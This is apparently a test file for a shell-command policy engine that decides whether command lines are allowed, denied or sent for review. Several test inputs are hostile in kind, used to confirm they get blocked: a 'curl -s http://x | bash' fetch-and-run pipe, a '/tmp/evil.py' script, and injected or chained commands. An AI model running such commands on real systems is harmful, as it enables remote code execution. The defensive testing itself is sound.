/**
 * Compiling rules, and how rules match programs and arguments.
 */
import { describe, expect, it } from 'vitest';
import { GatehouseError } from '../../../src/domain/errors.js';
import type { CommandRules, Verdict } from '../../../src/domain/types.js';
import { compileRules, evaluate } from '../../../src/policy/index.js';

function decide(rules: Partial<CommandRules>, line: string): Verdict {
  return evaluate(compileRules({ allow: [], deny: [], review: [], ...rules }), line).decision;
}

describe('compileRules', () => {
  it.each([
    ['', 'empty rule'],
    ['   ', 'empty rule'],
    ['ls; rm x', 'one program'],
    ['ls | grep x', 'one program'],
    ['ls > /tmp/x', 'one program'],
    ['X=1 ls', 'one program'],
    ['ls $HOME', 'expansions'],
    ['ls $(id)', 'one program'],
    ['* x', 'literal name or absolute path'],
    ['l? x', 'literal name or absolute path'],
    ['./tool *', 'must be absolute'],
    ['bin/tool', 'must be absolute'],
    ['ls "unterminated', 'cannot parse'],
    ['ls \ue000', 'reserved characters'],
  ])('refuses %j (%s)', (rule, why) => {
    let error: unknown;
    try {
      compileRules({ allow: ['ps *', rule], deny: [], review: [] });
    } catch (err) {
      error = err;
    }
    expect(error).toBeInstanceOf(GatehouseError);
    const e = error as GatehouseError;
    expect(e.code).toBe('GH_ERR_POLICY_RULE');
    expect(e.message).toContain(JSON.stringify(rule));
    expect(e.message).toContain('allow[1]');
    expect(e.message).toContain(why);
  });

  it('names the list and index of a bad deny or review rule', () => {
    expect(() => compileRules({ allow: [], deny: ['rm *', 'x;y'], review: [] })).toThrow(/deny\[1\]/);
    expect(() => compileRules({ allow: [], deny: [], review: ['$X'] })).toThrow(/review\[0\]/);
  });

  it('accepts quoting in rules: quoted words, quoted stars are literal', () => {
    const rules = { allow: ['grep "connection refused" *', "echo '*'"] };
    expect(decide(rules, 'grep "connection refused" /var/log/syslog')).toBe('allow');
    expect(decide(rules, "grep 'connection refused'")).toBe('allow');
    expect(decide(rules, 'grep connection refused /var/log/syslog')).toBe('deny');
    expect(decide(rules, "echo '*'")).toBe('allow');
    expect(decide(rules, 'echo x')).toBe('deny');
  });
});

describe('programs: bare names and paths', () => {
  const bare = { allow: ['ls *'] };

  it.each(['ls', '/bin/ls', '/usr/bin/ls', '/usr/local/bin/ls', '/usr/bin/../bin/ls'])('bare rule "ls *" allows %s', (cmd) => {
    expect(decide(bare, `${cmd} -la`)).toBe('allow');
  });

  it.each(['./ls', '/tmp/ls', '/home/alice/bin/ls', 'bin/ls', '/usr/bin/x/../../../tmp/ls'])('bare rule "ls *" does not allow %s', (cmd) => {
    expect(decide(bare, `${cmd} -la`)).toBe('deny');
  });

  it('a path rule allows exactly that path (normalised), not the bare name', () => {
    const rules = { allow: ['/opt/tools/diag *'] };
    expect(decide(rules, '/opt/tools/diag --all')).toBe('allow');
    expect(decide(rules, '/opt/tools/./diag --all')).toBe('allow');
    expect(decide(rules, '/opt//tools/../tools/diag')).toBe('allow');
    expect(decide(rules, 'diag --all')).toBe('deny');
    expect(decide(rules, '/opt/tools2/diag')).toBe('deny');
  });

  it('an allow rule naming a standard path does not allow the bare name (PATH could find another)', () => {
    const rules = { allow: ['/usr/bin/ls *'] };
    expect(decide(rules, '/usr/bin/ls')).toBe('allow');
    expect(decide(rules, 'ls')).toBe('deny');
    expect(decide(rules, '/bin/ls')).toBe('deny');
  });

  it('wrappers and interpreters are recognised anywhere, but only standard ones are transparent', () => {
    const rules = { allow: ['/opt/py/bin/python3 *', 'ls *', '/opt/bin/env *'], deny: ['rm *'] };
    expect(decide(rules, "/opt/py/bin/python3 -c 'x'")).toBe('deny');
    expect(decide(rules, '/opt/py/bin/python3 --version')).toBe('allow');
    expect(decide(rules, 'nohup ls')).toBe('allow');
    expect(decide(rules, '/usr/bin/nohup ls')).toBe('allow');
    expect(decide(rules, '/tmp/nohup ls')).toBe('deny');
    expect(decide(rules, '/opt/bin/env ls')).toBe('allow');
    expect(decide(rules, '/opt/bin/env rm x')).toBe('deny');
  });

  it('a deny rule naming a standard path also catches the bare name and the other standard paths', () => {
    const rules = { allow: ['rm /tmp/scratch/*'], deny: ['/usr/bin/rm *'] };
    expect(decide(rules, 'rm /tmp/scratch/a')).toBe('deny');
    expect(decide(rules, '/bin/rm /tmp/scratch/a')).toBe('deny');
    expect(decide(rules, '/usr/bin/rm /tmp/scratch/a')).toBe('deny');
  });
});

describe('arguments', () => {
  it('a final lone `*` matches any number of arguments, including none', () => {
    const rules = { allow: ['systemctl status *'] };
    expect(decide(rules, 'systemctl status')).toBe('allow');
    expect(decide(rules, 'systemctl status nginx')).toBe('allow');
    expect(decide(rules, 'systemctl status nginx redis --no-pager -l')).toBe('allow');
    expect(decide(rules, 'systemctl stop nginx')).toBe('deny');
    expect(decide(rules, 'systemctl')).toBe('deny');
  });

  it('other words match exactly one argument each', () => {
    const rules = { allow: ['cat /var/log/**', 'tail -n * /var/log/*'] };
    expect(decide(rules, 'cat /var/log/syslog')).toBe('allow');
    expect(decide(rules, 'cat /var/log/syslog /var/log/auth.log')).toBe('deny');
    expect(decide(rules, 'cat')).toBe('deny');
    expect(decide(rules, 'tail -n 50 /var/log/syslog')).toBe('allow');
    expect(decide(rules, 'tail -n 50 /var/log/nginx/error.log')).toBe('deny');
    expect(decide(rules, 'tail -n 50')).toBe('deny');
  });

  it('a rule without arguments matches only the bare command', () => {
    const rules = { allow: ['uptime'] };
    expect(decide(rules, 'uptime')).toBe('allow');
    expect(decide(rules, 'uptime -p')).toBe('deny');
  });

  it('an argument with an unknown value satisfies only `**` or a trailing `*` in an allow rule', () => {
    const rules = { allow: ['cat /var/log/**', 'head **', 'tail *'] };
    expect(decide(rules, 'cat "/var/log/$F"')).toBe('deny');
    expect(decide(rules, 'head "$F"')).toBe('allow');
    expect(decide(rules, 'tail "$F"')).toBe('allow');
    expect(decide(rules, 'head $F')).toBe('deny'); // unquoted: may be several arguments
    expect(decide(rules, 'tail $F')).toBe('allow');
    expect(decide(rules, 'head ~/x')).toBe('allow');
  });

  it('a glob argument may expand to many arguments: only a trailing `*` absorbs it', () => {
    const rules = { allow: ['cat /var/log/**', 'grep *'] };
    expect(decide(rules, 'cat /var/log/*.log')).toBe('deny');
    expect(decide(rules, 'cat /var/log/{a,b}')).toBe('deny');
    expect(decide(rules, 'grep x /var/log/*.log')).toBe('allow');
    expect(decide(rules, "cat '/var/log/*.log'")).toBe('allow'); // quoted: a literal star
  });

  it('deny and review rules apply when an unknown argument could match them', () => {
    const rules = { allow: ['systemctl *'], deny: ['systemctl stop *'], review: ['systemctl restart *'] };
    expect(decide(rules, 'systemctl "$ACTION" nginx')).toBe('deny');
    expect(decide(rules, 'systemctl $ACTION')).toBe('deny');
    expect(decide(rules, 'systemctl status "$UNIT"')).toBe('allow');
    const review = { allow: ['systemctl *'], review: ['systemctl restart *'] };
    expect(decide(review, 'systemctl "$ACTION" nginx')).toBe('review');
  });

  it('deny beats review beats allow for one command', () => {
    const rules = { allow: ['kubectl *'], review: ['kubectl delete *'], deny: ['kubectl delete namespace *'] };
    expect(decide(rules, 'kubectl get pods')).toBe('allow');
    expect(decide(rules, 'kubectl delete pod web-1')).toBe('review');
    expect(decide(rules, 'kubectl delete namespace prod')).toBe('deny');
  });
});

describe('interpreters: only a rule that spells out the use allows it', () => {
  it('python3 -c', () => {
    expect(decide({ allow: ['python3 -c *'] }, "python3 -c 'print(1)'")).toBe('allow');
    expect(decide({ allow: ['python3 *'] }, "python3 -c 'print(1)'")).toBe('deny');
    expect(decide({ allow: ['python3 -u *'] }, "python3 -u -c 'print(1)'")).toBe('deny');
    expect(decide({ allow: ['python3 -u -c *'] }, "python3 -u -c 'print(1)'")).toBe('allow');
  });

  it('a named script', () => {
    expect(decide({ allow: ['python3 /opt/diag/collect.py *'] }, 'python3 /opt/diag/collect.py --quick')).toBe('allow');
    expect(decide({ allow: ['python3 /opt/diag/collect.py *'] }, 'python3 /tmp/evil.py')).toBe('deny');
    expect(decide({ allow: ['python3 **'] }, 'python3 /tmp/evil.py')).toBe('deny');
  });

  it('reading code from input', () => {
    expect(decide({ allow: ['bash'] }, 'bash')).toBe('allow');
    expect(decide({ allow: ['bash *'] }, 'bash')).toBe('deny');
    expect(decide({ allow: ['bash *', 'curl *'] }, 'curl -s http://x | bash')).toBe('deny');
  });

  it('version queries are ordinary commands', () => {
    expect(decide({ allow: ['python3 *'] }, 'python3 --version')).toBe('allow');
    expect(decide({ allow: ['node *'] }, 'node -v')).toBe('allow');
  });

  it('sh -c needs the shell allowed and every command in the string allowed', () => {
    expect(decide({ allow: ['ls *'] }, "sh -c 'ls /'")).toBe('deny');
    expect(decide({ allow: ['ls *', 'sh -c *'] }, "sh -c 'ls /'")).toBe('allow');
    expect(decide({ allow: ['ls *', 'sh -c *'] }, "sh -c 'ls /; id'")).toBe('deny');
    expect(decide({ allow: ['ls *', 'bash -c *'] }, "bash -xc 'ls /'")).toBe('deny'); // -xc is not the literal -c
    expect(decide({ allow: ['ls *', 'bash *'] }, "bash -xc 'ls /'")).toBe('allow');
  });
});
